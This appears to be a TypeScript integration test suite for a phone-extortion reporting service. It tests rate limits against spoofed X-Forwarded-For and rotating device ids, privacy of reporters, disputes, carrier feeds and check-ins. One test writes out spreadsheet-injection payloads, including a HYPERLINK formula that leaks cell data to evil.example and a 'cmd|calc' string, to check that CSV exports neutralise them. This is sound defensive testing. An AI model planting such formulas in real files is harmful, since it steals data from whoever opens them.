// Extortion defence through HTTP on SQLite and PostgreSQL: reporting, look-ups (plain, k-anonymous,
// keyed), reputation that one actor cannot game, limits that rotating ids or spoofing
// X-Forwarded-For do not multiply, analysts who see reporters only as letters, disputes with
// limits, exports that a spreadsheet cannot run, check-ins answered once through POST bodies.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { availableEngines } from '../support/engines.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { caller } from '../support/api.js';
import { connect } from '../support/ws.js';

const engines = await availableEngines();
/** Alert ids are random UUIDs (src/kernel/clock.ts uuidIds). */
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

describe.each(engines)('extortion defence on $name', (engine) => {
  let server: TestServer;
  let admin: string;
  let analyst: string;
  let analystId: string;
  const call = caller(() => server.url);
  /** The test client is the trusted proxy: X-Forwarded-For names the client (the rightmost entry counts). */
  const from = (ip?: string): Record<string, string> => (ip ? { 'x-forwarded-for': ip } : {});
  const report = (number: string, opts: { ip?: string; token?: string; headers?: Record<string, string>; extra?: Record<string, unknown> } = {}) =>
    call('POST', '/api/v1/extortion/reports', {
      body: { number, channel: 'call', type: 'virtual_kidnapping', claimed: 'Tenemos a tu hijo, deposita ya', ...opts.extra },
      ...(opts.token ? { token: opts.token } : {}), headers: { ...from(opts.ip), ...opts.headers },
    });
  const device = async (ip?: string) => (await call('POST', '/api/v1/devices', { headers: from(ip) })).body as { token: string; userId: string };
  const audit = async () => (await call('GET', '/api/v1/audit?limit=500', { token: admin })).body as { action: string; actorId: string | null; target: string | null }[];

  beforeAll(async () => {
    server = await startTestServer({
      engine, webDir: null,
      config: { mode: 'development', trustProxy: ['127.0.0.1', '::1'], reportsPerDevicePerHour: 5, reportsPerNetworkPerHour: 8, disputesPerNetworkHour: 5 },
    });
    admin = await server.adminToken();
    analystId = (await call('POST', '/api/v1/users', { token: admin, body: { username: 'analista', password: 'analista-clave-segura', role: 'analyst' } })).body.id;
    analyst = (await call('POST', '/api/v1/auth/login', { body: { username: 'analista', password: 'analista-clave-segura' } })).body.token;
  }, 120_000);
  afterAll(async () => { await server?.close(); });

  it('normalises legacy Mexican forms to one number and refuses short codes and garbage', async () => {
    const first = await report('044 55 1234 5678', { ip: '10.1.1.1' });
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({ number: '+525512345678', level: 'suspicious', reports: 1 });
    const same = await call('GET', `/api/v1/numbers/${encodeURIComponent('+52 1 55 1234 5678')}`);
    expect(same.body).toMatchObject({ number: '+525512345678', reports: 1 });
    const short = await report('911', { ip: '10.1.1.1' });
    expect([short.status, short.body.error.code]).toEqual([400, 'SHORT_CODE']);
    const junk = await report('12', { ip: '10.1.1.1' });
    expect([junk.status, junk.body.error.code]).toEqual([400, 'INVALID_PHONE']);
    const clabe = await report('5512345678', { ip: '10.1.1.1', extra: { clabe: '032180000118359710' } });
    expect([clabe.status, clabe.body.error.code]).toEqual([400, 'INVALID_CLABE']);
    expect((await call('GET', '/api/v1/numbers/5512345678')).body.reports).toBe(1); // refused reports changed nothing
  });

  it('never lets one device push a number past "suspicious", and refuses its flood, whatever X-Device-Id it sends', async () => {
    const flooder = await device('10.2.2.2');
    const statuses: number[] = [];
    // From ever new networks, naming itself anew each time: the device credential's limit holds.
    for (let i = 0; i < 7; i++) {
      statuses.push((await report('55 8888 7777', { token: flooder.token, ip: `10.2.${10 + i}.2`, headers: { 'x-device-id': `fresh-${i}` } })).status);
    }
    expect(statuses).toEqual([201, 201, 201, 201, 201, 429, 429]);
    const r = await call('GET', '/api/v1/numbers/5588887777');
    expect(r.body).toMatchObject({ level: 'suspicious', reports: 5, independentReporters: 1 });
  });

  it('derives no reporter from X-Device-Id: rotating it neither multiplies the network limit nor adds reporters', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 10; i++) statuses.push((await report('55 7000 0001', { ip: '10.20.0.5', headers: { 'x-device-id': `rotating-${i}` } })).status);
    expect(statuses).toEqual([...Array(8).fill(201), 429, 429]);
    const refused = await report('55 7000 0001', { ip: '10.20.0.5', headers: { 'x-device-id': 'one-more' } });
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await call('GET', '/api/v1/numbers/5570000001')).body).toMatchObject({ reports: 8, independentReporters: 1, level: 'suspicious' });
  });

  it('does not multiply the network limit with fresh device credentials', async () => {
    const devices = await Promise.all(Array.from({ length: 10 }, () => device('10.21.0.5')));
    const statuses: number[] = [];
    for (const d of devices) statuses.push((await report('55 7000 0002', { ip: '10.21.0.5', token: d.token })).status);
    expect(statuses).toEqual([...Array(8).fill(201), 429, 429]);
    expect((await call('GET', '/api/v1/numbers/5570000002')).body).toMatchObject({ reports: 8, independentReporters: 1, level: 'suspicious' });
  });

  it('does not multiply the network limit with a spoofed leftmost X-Forwarded-For', async () => {
    const statuses: number[] = [];
    // The client writes the leftmost entries; the trusted proxy (us) appends the real address.
    for (let i = 0; i < 10; i++) statuses.push((await report('55 7000 0003', { ip: `203.0.${i}.77, 10.22.0.9` })).status);
    expect(statuses).toEqual([...Array(8).fill(201), 429, 429]);
    expect((await call('GET', '/api/v1/numbers/5570000003')).body).toMatchObject({ reports: 8, independentReporters: 1 });
  });

  it('rates a number "probable" when independent people report it', async () => {
    for (let i = 0; i < 4; i++) expect((await report('33 1111 2222', { ip: `10.3.${i}.9` })).status).toBe(201);
    const r = await call('GET', '/api/v1/numbers/3311112222');
    expect(r.body).toMatchObject({ level: 'probable', reports: 4, independentReporters: 4 });
    expect(r.body.explanation.es, JSON.stringify(r.body)).toMatch(/4/);
  });

  it('answers the k-anonymous range query without learning the number', async () => {
    const hash = createHash('sha256').update('+523311112222').digest('hex');
    const r = await call('GET', `/api/v1/numbers/range/${hash.slice(0, 5)}`);
    expect(r.status).toBe(200);
    const entries = r.body as { hashSuffix: string; level: string }[];
    expect(entries.find((e) => e.hashSuffix === hash.slice(5))?.level).toBe('probable');
    expect((await call('GET', '/api/v1/numbers/range/zzzzz')).status).toBe(400);
  });

  it('shows protected numbers as possibly spoofed, whatever the reports', async () => {
    expect((await call('PUT', '/api/v1/extortion/protected/5552089898', { token: analyst, body: { label: 'SSC CDMX' } })).status).toBe(403);
    expect((await call('PUT', '/api/v1/extortion/protected/5552089898', { token: admin, body: { label: 'Línea de cuadrantes SSC CDMX' } })).status).toBe(200);
    for (let i = 0; i < 4; i++) await report('55 5208 9898', { ip: `10.4.${i}.1` });
    expect((await call('GET', '/api/v1/numbers/5552089898')).body.level).toBe('spoofed');
  });

  it('shows analysts reporters as letters only — no account, device or key — and audits the reads', async () => {
    const pedro = await device('10.50.2.1');
    const rosa = await device('10.50.3.1');
    const sent: [string, { ip: string; token?: string }][] = [
      ['lucía', { ip: '10.50.1.1' }], // anonymous
      ['pedro-1', { ip: '10.50.2.1', token: pedro.token }],
      ['pedro-2', { ip: '10.50.4.1', token: pedro.token }], // Pedro again, from another network
      ['rosa', { ip: '10.50.3.1', token: rosa.token }],
      ['vecino', { ip: '10.50.4.1' }], // anonymous, on the network of Pedro's second report
    ];
    for (const [who, opts] of sent) {
      expect((await report('55 6000 1234', { ...opts, extra: { notes: who } })).status).toBe(201);
      await new Promise((r) => setTimeout(r, 3)); // letters follow first reports: keep them apart in time
    }

    expect((await call('GET', '/api/v1/extortion/numbers/5560001234', { token: pedro.token })).status).toBe(403);
    const page = await call('GET', '/api/v1/extortion/numbers/5560001234', { token: analyst });
    expect(page.status).toBe(200);
    const letterOf = Object.fromEntries(page.body.reports.map((r: { notes: string; reporter: string }) => [r.notes, r.reporter]));
    expect(letterOf).toEqual({ 'lucía': 'A', 'pedro-1': 'B', 'pedro-2': 'B', 'vecino': 'B', 'rosa': 'C' });
    expect(page.body.reporters).toEqual([
      { label: 'A', reports: 1, devices: 0, networks: 1, anonymous: 1 },
      { label: 'B', reports: 3, devices: 1, networks: 2, anonymous: 1 },
      { label: 'C', reports: 1, devices: 1, networks: 1, anonymous: 0 },
    ]);
    expect(Object.keys(page.body.reports[0]).sort()).toEqual(['amountMxn', 'bank', 'card', 'channel', 'clabe', 'claimed', 'e164', 'id', 'notes', 'occurredAt', 'paid', 'reportedAt', 'reporter', 'status', 'type']);
    const queue = await call('GET', '/api/v1/extortion/queue', { token: analyst });
    expect(queue.body.length).toBeGreaterThan(0);
    expect(Object.keys(queue.body[0]).sort()).toEqual(['amountMxn', 'bank', 'card', 'channel', 'clabe', 'claimed', 'e164', 'id', 'notes', 'occurredAt', 'paid', 'reportedAt', 'status', 'type']);
    for (const text of [JSON.stringify(page.body), JSON.stringify(queue.body)]) {
      expect(text).not.toMatch(/reporter_user_id|key_(account|device|network)|keyId|key_id/);
      expect(text).not.toContain(pedro.userId);
      expect(text).not.toContain(rosa.userId);
      expect(text).not.toMatch(/\b[0-9a-f]{32}\b/); // no keyed hash of anything
    }
    const reads = (await audit()).filter((a) => a.actorId === analystId);
    expect(reads).toEqual(expect.arrayContaining([
      expect.objectContaining({ action: 'extortion.number.read', target: '+525560001234' }),
      expect.objectContaining({ action: 'extortion.queue.read' }),
    ]));
  });

  it('lets analysts confirm numbers, resolve disputes, and export cases without reporter identities', async () => {
    expect((await call('GET', '/api/v1/extortion/queue')).status).toBe(401);
    const confirmed = await call('POST', '/api/v1/extortion/numbers/3311112222/decision', { token: analyst, body: { status: 'confirmed', note: 'Campaña conocida' } });
    expect(confirmed.body.level).toBe('confirmed');
    const dispute = await call('POST', '/api/v1/numbers/5512345678/disputes', { body: { ownerName: 'Tintorería La Güera', contact: 'tel 55 1234 5678', reason: 'Es el teléfono de mi negocio' } });
    expect(dispute.status).toBe(201);
    expect((await call('GET', '/api/v1/numbers/5512345678')).body.underReview).toBe(true);
    const listed = (await call('GET', '/api/v1/extortion/disputes?status=open', { token: analyst })).body;
    expect(listed.find((d: { id: string }) => d.id === dispute.body.id)).toMatchObject({ e164: '+525512345678', ownerName: 'Tintorería La Güera', status: 'open' });
    expect((await call('POST', '/api/v1/numbers/5599990000/disputes', { body: { ownerName: 'Nadie', contact: 'x@y.z', reason: 'No reportado' } })).status).toBe(404);
    const upheld = await call('POST', `/api/v1/extortion/disputes/${dispute.body.id}/resolution`, { token: analyst, body: { outcome: 'upheld', note: 'Verificado' } });
    expect(upheld.body.level).toBe('none');
    const csv = await call('POST', '/api/v1/extortion/exports', { token: analyst, body: { numbers: ['3311112222'], format: 'csv' } });
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    expect(String(csv.body).split('\n').filter(Boolean)).toHaveLength(5);
    expect(String(csv.body)).not.toMatch(/10\.3\./);
    const actions = (await audit()).map((a) => a.action);
    expect(actions).toEqual(expect.arrayContaining(['number.confirmed', 'number.dispute.upheld', 'extortion.case_export']));
  });

  it('exports a report whose text is a spreadsheet formula as plain text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalles")';
    expect((await report('55 6100 2000', { ip: '10.60.0.1', extra: { claimed: formula, notes: '@SUM(1+1)*cmd|calc' } })).status).toBe(201);
    const csv = String((await call('POST', '/api/v1/extortion/exports', { token: analyst, body: { numbers: ['5561002000'], format: 'csv' } })).body);
    const row = csv.trim().split('\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Ver detalles"")"`);
    // Not one cell (quoted or not) starts with a character a spreadsheet runs.
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    const json = (await call('POST', '/api/v1/extortion/exports', { token: analyst, body: { numbers: ['5561002000'], format: 'json' } })).body;
    expect(json.reports[0].claimed).toBe(formula); // JSON is data, not a spreadsheet: kept as written
  });

  it('limits disputes per network and per number (429 with Retry-After), without an account', async () => {
    for (let i = 0; i < 3; i++) expect((await report(`55 6200 000${i}`, { ip: `10.70.${i}.1` })).status).toBe(201);
    const dispute = (n: string, ip: string) => call('POST', `/api/v1/numbers/${n}/disputes`, {
      body: { ownerName: 'Dueña del número', contact: 'dueña@example.mx', reason: 'Es mi número personal' }, headers: from(ip),
    });
    // One network: five an hour, whichever numbers (even ones that are not listed).
    const fromOne = [];
    for (const n of ['5562000000', '5562000001', '5599990001', '5562000002', '5562000000', '5562000001']) fromOne.push((await dispute(n, '10.71.0.1')).status);
    expect(fromOne).toEqual([201, 201, 404, 201, 201, 429]);
    // One number from ever new networks: three a day straight to review, then growing waits.
    const spread = [];
    for (let i = 0; i < 3; i++) spread.push((await dispute('5562000002', `10.72.${i}.1`)).status);
    expect(spread).toEqual([201, 201, 429]); // it already had one (above)
    const refused = await dispute('5562000002', '10.72.9.1');
    expect([refused.status, refused.body.error.code]).toEqual([429, 'RATE_LIMITED']);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(60);
    expect((await dispute('5562000001', '10.72.9.1')).status).toBe(201); // another number is not held up
  });

  it('serves carriers a keyed, rate-limited look-up and a feed of probable and confirmed numbers only', async () => {
    const key = (await call('POST', '/api/v1/extortion/api-keys', { token: admin, body: { name: 'Operador X', perMinute: 3 } })).body.key as string;
    expect((await call('GET', '/api/v1/carrier/numbers/3311112222')).status).toBe(401);
    const feed = await call('GET', '/api/v1/carrier/blocklist?format=csv', { headers: { 'x-api-key': key } });
    expect(feed.status).toBe(200);
    expect(String(feed.body)).toMatch(/^number,level,reports,independent_reporters,changed_at,listed\n/);
    expect(String(feed.body)).toContain('+523311112222,confirmed');
    // One anonymous report (or one flooding device) makes a number suspicious: never enough to be blocked.
    expect(String(feed.body)).not.toMatch(/suspicious|5588887777|5570000001/);
    const again = await call('GET', '/api/v1/carrier/blocklist?format=csv', { headers: { 'x-api-key': key, 'if-none-match': feed.headers.get('etag')! } });
    expect(again.status).toBe(304);
    // Three calls a minute: the third is the last one served.
    expect((await call('GET', '/api/v1/carrier/numbers/3311112222', { headers: { 'x-api-key': key } })).body.level).toBe('confirmed');
    const limited = await call('GET', '/api/v1/carrier/numbers/3311112222', { headers: { 'x-api-key': key } });
    expect([limited.status, limited.body.error.code]).toEqual([429, 'RATE_LIMITED']);
  });

  it('sends a check-in; the link is answered through a POST body, once, and "I need help" raises an alert', async () => {
    const owner = await device();
    const contact = (await call('POST', '/api/v1/contacts', { token: owner.token, body: { name: 'Mamá', phone: '55 2222 3333' } })).body;
    expect(contact.phone).toBe('+525522223333');
    const socket = await connect(server.url, owner.token);
    await socket.next((m) => m.type === 'snapshot');
    const ask = async () => {
      const c = (await call('POST', '/api/v1/checkins', { token: owner.token, body: { contactId: contact.id } })).body;
      const outbox = (await call('GET', '/api/v1/dev/outbox', { token: admin })).body as { to: string; body: string }[];
      const token = /#([\w-]+)/.exec(outbox.find((m) => m.to === '+525522223333')!.body)![1]!;
      return { id: c.id as string, token };
    };
    const answer = (token: string, body: Record<string, unknown>) => call('POST', '/api/v1/checkin-links/answer', { body: { token, ...body } });
    const first = await ask();
    expect((await call('POST', '/api/v1/checkin-links/status', { body: { token: first.token } })).body.status).toBe('pending');
    // The token is never taken from a URL path any more.
    expect((await call('GET', `/api/v1/checkin-links/${first.token}`)).status).toBe(404);
    expect((await call('POST', `/api/v1/checkin-links/${first.token}`, { body: { answer: 'fine' } })).status).toBe(404);
    expect((await answer(first.token, { answer: 'fine' })).body.status).toBe('fine');
    expect((await socket.next((m) => m.type === 'checkin')).checkin).toMatchObject({ id: first.id, status: 'fine', contactName: 'Mamá' });
    const twice = await answer(first.token, { answer: 'fine' });
    expect([twice.status, twice.body.error.code]).toEqual([409, 'CHECKIN_ANSWERED']);

    const second = await ask();
    const help = await answer(second.token, { answer: 'need_help', lat: 19.4326, lon: -99.1332 });
    expect(help.body.alertId).toMatch(UUID);
    const alert = await call('GET', `/api/v1/alerts/${help.body.alertId}`, { token: admin });
    expect(alert.body).toMatchObject({ kind: 'extortion', quadrant: { id: 'C-1.1.3' } });
    // A coerced "I'm fine" cannot undo the call for help, nor can help be raised twice.
    for (const again of [{ answer: 'fine' }, { answer: 'need_help', lat: 19.43, lon: -99.13 }]) {
      const r = await answer(second.token, again);
      expect([r.status, r.body.error?.code]).toEqual([409, 'CHECKIN_ANSWERED']);
    }
    expect((await call('POST', '/api/v1/checkin-links/status', { body: { token: second.token } })).body.status).toBe('need_help');
    expect((await answer('nonexistent-token-123', { answer: 'fine' })).status).toBe(404);
    expect((await call('POST', '/api/v1/checkin-links/status', { body: { token: 'bad token with spaces' } })).status).toBe(400);

    // "I'm fine" may still become "I need help" (the situation changed): the only second answer there is.
    const third = await ask();
    expect((await answer(third.token, { answer: 'fine' })).status).toBe(200);
    const later = await answer(third.token, { answer: 'need_help', lat: 19.4326, lon: -99.1332 });
    expect([later.status, later.body.status]).toEqual([200, 'need_help']);
    expect(later.body.alertId).toMatch(UUID);
    expect(later.body.alertId).not.toBe(help.body.alertId);

    await call('PUT', '/api/v1/code-word', { token: owner.token, body: { word: 'Tlacuache' } });
    expect((await call('POST', '/api/v1/code-word/check', { token: owner.token, body: { word: 'tlacuache ' } })).body).toEqual({ set: true, matches: true });
    expect((await audit()).filter((a) => a.action === 'notify.outbox.read').length).toBe(3);
    socket.close();
  });
});
